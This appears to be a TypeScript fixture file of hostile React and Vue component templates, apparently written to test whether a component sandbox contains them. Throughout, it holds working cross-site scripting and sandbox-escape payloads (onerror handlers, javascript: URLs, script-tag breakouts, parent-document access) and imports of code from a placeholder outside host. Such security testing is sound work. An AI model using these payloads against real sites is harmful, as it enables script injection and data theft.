import type { Family } from './attack.ts';

const shown = '<p>Hostile page</p>';

/** Components of React that try what pages try, and what only components can. */
export const reactComponents: Family = {
  name: 'react',
  attacks: {
    html: [
      'markup that is set as it is',
      ({ run }) =>
        `export default () => <div dangerouslySetInnerHTML={{ __html: '<img src=x onerror="${run};top.${run}">' }} />`,
    ],
    address: [
      'a script as an address',
      ({ run }) => `export default () => <a ref={(link) => link?.click()} href="javascript:top.${run}">press me</a>`,
    ],
    form: [
      'an action that is a script',
      ({ run }) =>
        `export default () => <form action="javascript:top.${run}" ref={(form) => form?.requestSubmit()}>${shown}</form>`,
    ],
    portal: [
      'a portal into the app',
      () =>
        `import { createPortal } from 'react-dom';\nexport default () => createPortal(<p>canary</p>, parent.document.body)`,
    ],
    remote: ['a module of another host', ({ at }) => `import x from '${at}';\nexport default () => <p>{x}</p>`],
    late: [
      'a module of another host, later',
      ({ at }) => `export default () => { void import('${at}'); return ${shown} }`,
    ],
    climbing: [
      'a module of ours by its path',
      ({ app }) =>
        `import x from '${app}assets/canary.js';\nimport y from '../../../secret';\nexport default () => <p>{x}{y}</p>`,
    ],
    preload: [
      'hints that React gives',
      ({ at, host }) =>
        `import { prefetchDNS, preconnect, preload, preinit } from 'react-dom';\nexport default () => { prefetchDNS('https://${host}'); preconnect('${at}'); preload('${at}/1', { as: 'script' }); preinit('${at}/2', { as: 'script' }); return ${shown} }`,
    ],
    resource: [
      'parts that React lifts into the head',
      ({ at }) =>
        `export default () => <><link rel="stylesheet" href="${at}" precedence="x" /><script async src="${at}/1" /><meta httpEquiv="refresh" content="0;url=${at}/2" />${shown}</>`,
    ],
    pragma: [
      'a compiler that is told to do something else',
      ({ run }) => `/** @jsx top.${run} @jsxImportSource ${run} */\nexport default () => ${shown}`,
    ],
    scriptEnd: [
      'the end of the script that it becomes',
      ({ run }) =>
        `const text = "</script><img src=x onerror=top.${run}><script>";\nexport default () => <p>{text}</p>`,
    ],
    comment: [
      'a comment that scripts do not end',
      ({ run }) => `const text = "<!--<script>"; // --> top.${run}\nexport default () => <p>{text}</p>`,
    ],
    thrown: [
      'a failure with markup',
      ({ run }) => `export default () => { throw new Error('<img src=x onerror=${run}>') }`,
    ],
    getter: [
      'a failure that acts when it is read',
      () =>
        `export default () => { throw { get message() { return evil[parent.localStorage.planted] }, toString: null } }`,
    ],
    printed: [
      'markup that is printed',
      ({ run }) =>
        `console.log('<img src=x onerror=${run}>', { toString: () => evil.reached && '' }.x, '%c', 'background:url(x)');\nexport default () => ${shown}`,
    ],
  },
};

/** Components of Vue. */
export const vueComponents: Family = {
  name: 'vue',
  attacks: {
    html: [
      'markup that is set as it is',
      ({ run }) => `<template><div v-html="'<img src=x onerror=&quot;${run};top.${run}&quot;>'" /></template>`,
    ],
    address: [
      'a script as an address',
      ({ run }) =>
        `<template><a :href="'javascript:top.${run}'" @vue:mounted="(node) => node.el.click()">press me</a></template>`,
    ],
    expression: [
      'an expression that makes functions',
      ({ run }) => `<template><p>{{ $el?.ownerDocument }}{{ (() => {}).constructor('top.${run}')() }}</p></template>`,
    ],
    element: [
      'an element by its name',
      ({ run }) =>
        `<template><component :is="'script'">top.${run}</component><component :is="'iframe'" srcdoc="<script>top.${run}</scr" /></template>`,
    ],
    event: [
      'a handler by its name',
      ({ run }) =>
        `<template><img src="x" :[name]="code" /></template>\n<script setup>\nconst name = 'onerror';\nconst code = 'top.${run}';\n</script>`,
    ],
    teleport: [
      'words sent into the app',
      () =>
        `<template><Teleport :to="target"><p>canary</p></Teleport></template>\n<script setup>\nlet target = 'body';\ntry { target = parent.document.body } catch {}\n</script>`,
    ],
    source: [
      'parts of another host',
      ({ at }) => `<template src="${at}/1"></template>\n<script src="${at}/2"></script>\n<style src="${at}/3"></style>`,
    ],
    style: [
      'a style sheet of another host',
      ({ at }) => `<template>${shown}</template>\n<style scoped>@import "${at}";p{background:url(${at}/2)}</style>`,
    ],
    styleBinding: [
      'a style that ends itself',
      ({ run }) =>
        `<template>${shown}</template>\n<script setup>\nconst end = '}</style><img src=x onerror=top.${run}>';\n</script>\n<style>p{color:v-bind(end)}</style>`,
    ],
    remote: [
      'a module of another host',
      ({ at }) => `<script setup>\nimport x from '${at}';\n</script>\n<template><p>{{ x }}</p></template>`,
    ],
    scriptEnd: [
      'the end of the script that it becomes',
      ({ run }) =>
        `<script setup>\nconst text = '<' + '/script><img src=x onerror=top.${run}>';\n</script>\n<template><p>{{ text }}</p></template>`,
    ],
    block: [
      'a block that nobody knows',
      ({ at, run }) =>
        `<template>${shown}</template>\n<i18n src="${at}">{"x": "${run}"}</i18n>\n<docs><script>top.${run}</script></docs>`,
    ],
    thrown: [
      'a failure with markup',
      ({ run }) =>
        `<script setup>\nthrow new Error('<img src=x onerror=${run}>');\n</script>\n<template>${shown}</template>`,
    ],
  },
};
